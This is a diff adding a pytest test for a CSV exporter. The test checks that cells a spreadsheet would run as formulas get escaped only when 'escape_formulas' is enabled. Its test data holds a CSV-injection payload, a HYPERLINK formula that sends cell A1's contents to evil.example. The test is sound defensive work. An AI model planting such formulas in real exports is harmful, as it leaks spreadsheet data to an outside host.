@@ -321,3 +321,24 @@ def test_a_saved_plan_exports_exactly_what_it_showed(workspace):
     delta = only(exported(ws), "delta")
     assert [r["customer_id"] for r in rows(delta)] == [f"c{i:05d}" for i in range(1, 6)]
     assert "delta file of 1 row (+1)" in cli(ws, "plan").output
+
+
+@pytest.mark.parametrize("escape", [False, True], ids=["as-is", "escaped"])
+def test_formulas_in_csv_cells_are_escaped_only_when_asked(workspace, escape):
+    """CSV injection: a cell a spreadsheet would run as a formula gets a leading ' with
+    `escape_formulas: true`; numbers (a negative one too) and other text stay as they are."""
+    people = [
+        profile(1, a=True, name='=HYPERLINK("http://evil.example/?"&A1,"click")'),
+        profile(2, a=True, name="@SUM(1+1)", spend=-5.0),
+        profile(3, a=True, name="Ann"),
+    ]
+    extra = "  escape_formulas: true\n" if escape else ""
+    ws = files_ws(workspace, people, extra=extra)
+    apply(ws)
+    text = only(exported(ws), "full").read_text()
+    names = {r["FIRST_NAME"] for r in rows(only(exported(ws), "full"))}
+    if escape:
+        assert names == {'\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'@SUM(1+1)", "Ann"}
+    else:
+        assert names == {'=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", "Ann"}
+    assert ",-5.0" in text  # a number is never escaped
